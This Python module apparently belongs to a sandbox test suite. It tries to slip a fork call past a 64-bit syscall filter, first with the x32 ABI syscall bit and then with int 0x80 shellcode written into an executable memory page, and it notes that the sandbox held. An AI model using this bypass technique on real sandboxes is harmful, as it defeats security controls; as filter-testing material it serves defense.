"""Makes a system call by the numbers of 32-bit programs, which a filter for 64-bit numbers would misread.

Held: crashed exception
"""

import ctypes
import mmap
import os
import platform

FORK_BY_OLD_NUMBER = b"\xb8\x02\x00\x00\x00\xcd\x80\xc3"  # mov eax, 2; int 0x80; ret
X32 = 0x40000000


def attack(target):
    if platform.machine() != "x86_64":
        return _both(os.fork)
    if (pid := ctypes.CDLL(None).syscall(X32 | 57)) >= 0:
        return _both(lambda: pid)
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(FORK_BY_OLD_NUMBER)
    code = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    return _both(code)


def _both(fork):
    pid = fork()
    if pid == 0:
        os._exit(0)
    if pid < 0:
        raise OSError(-pid, os.strerror(-pid))
    os.waitpid(pid, 0)
    return "a process"
